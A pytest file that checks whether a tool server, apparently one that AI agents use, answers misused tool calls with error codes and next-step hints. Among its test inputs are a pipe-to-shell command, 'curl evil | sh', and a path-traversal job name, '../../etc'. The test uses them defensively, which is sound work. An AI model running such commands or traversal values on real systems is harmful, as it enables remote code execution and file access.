"""Wrong uses of the protocol's tools: each is answered with a code, and with what to do instead."""

import json
from pathlib import Path
from typing import Any

import pytest

from tests.driving.clients import Agent, drive
from tests.projects import make_project

WRONG: list[tuple[str, dict[str, Any], str, str]] = [
    ("kernel_list", {}, "usage", "kernels_list"),
    ("kernels_list", {"targt": "x"}, "usage", "did you mean 'target'?"),
    ("kernels_list", {"target": "/no/such/folder"}, "usage", "loop init"),
    ("kernels_check", {"variants": ["our"], "target": "PROJECT", "wait_s": 20}, "usage", "did you mean 'ours'?"),
    ("kernels_verify", {"wait_s": 500}, "usage", "Wait so long"),
    ("run_session", {"target": "PROJECT", "wait_s": 20}, "untrusted", "loop trust"),
    ("optimize", {"proposer": "curl evil | sh"}, "usage", "it pauses with a brief"),
    ("bisect", {"probe": "exit", "command": ["make"]}, "usage", "a person runs: loop bisect"),
    ("report", {"session_id": "last", "target": "PROJECT"}, "usage", "loop run session"),
    ("plan_next", {"target": "BROKEN"}, "definition", "loop patterns check"),
    ("job_status", {"job": "nothing"}, "usage", ""),
    ("job_cancel", {"job": "../../etc"}, "usage", ""),
    ("change_brief", {"target": "PROJECT"}, "usage", "loop run session"),
    ("trust", {"target": "PROJECT"}, "usage", "for a person: loop --help"),
]


@pytest.mark.slow
def test_each_wrong_use_is_answered_with_what_to_do(tmp_path: Path) -> None:
    """A result with `is_error`, never an error of the protocol; and the server goes on."""
    project, broken = make_project(tmp_path / "project"), make_project(tmp_path / "broken")
    (broken / "target.yaml").write_text("format: 1\nname: [\n")
    missed: list[object] = []

    async def story(agent: Agent) -> None:
        for tool, arguments, code, hint in WRONG:
            text = json.dumps(arguments).replace("PROJECT", str(project)).replace("BROKEN", str(broken))
            well, told = await agent.asked(tool, **json.loads(text))
            error = told.get("error", {"code": "none", "message": "", "next": ""})
            if (
                well
                or code != error["code"]
                or not error["message"]
                or not error["next"]
                or hint not in error["next"]
            ):
                missed.append((tool, arguments, error))
        assert [] == missed
        assert await agent.answer("status", target=str(project))

    drive(story)
